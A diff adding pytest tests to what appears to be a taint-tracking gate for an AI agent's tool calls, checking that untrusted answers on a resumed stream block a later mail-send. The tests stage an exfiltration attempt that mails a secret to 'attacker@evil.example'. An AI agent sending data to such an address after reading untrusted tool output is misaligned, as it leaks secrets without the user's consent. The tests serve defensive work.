@@ -246,6 +246,40 @@ def test_result_of_a_task_has_the_tool_for_a_source() -> None:
     assert "`web/fetch`" in asked(effects)
 
 
+@pytest.mark.parametrize(
+    "result",
+    [
+        {"content": [{"type": "text", "text": SECRET}]},
+        {"content": [{"type": "text", "text": SECRET}], "tools": []},
+        {"content": [{"type": "text", "text": SECRET}], "tools": [{"name": "a"}]},
+    ],
+)
+@pytest.mark.parametrize("sources", ['["**"]', "[web/fetch]"])
+def test_answer_of_which_nobody_knows_to_what_taints(sources: str, result: dict[str, Any]) -> None:
+    """A stream that resumes another one brings such answers, whatever they look like."""
+    agent = Agent(POLICY.replace("enabled: true,", f"enabled: true, sources: {sources},"))
+    stream = Conversation(agent.session, Transport.HTTP, "web")
+    stream.carries_other_answers = stream.resumes = True
+    answer = json.dumps({"jsonrpc": "2.0", "id": 9, "result": result}).encode()
+    assert any(
+        isinstance(effect, Forward)
+        for effect in server_message(agent.gate, answer, stream, Circumstances(NOW))
+    )
+
+    assert code(agent.call("mail", "send", to="attacker@evil.example")) == "taint_escalated"
+
+
+def test_list_of_tools_on_a_stream_that_resumes_another_does_not_taint() -> None:
+    agent = Agent()
+    stream = Conversation(agent.session, Transport.HTTP, "web")
+    stream.carries_other_answers = stream.resumes = True
+    listed = {"tools": [{"name": "a", "description": SECRET}], "nextCursor": "b"}
+    answer = json.dumps({"jsonrpc": "2.0", "id": 9, "result": listed}).encode()
+    server_message(agent.gate, answer, stream, Circumstances(NOW))
+
+    assert code(agent.call("mail", "send", to="attacker@evil.example")) == "rule_match"
+
+
 def test_batched_answer_taints() -> None:
     agent = Agent()
     agent.call("web", "fetch")
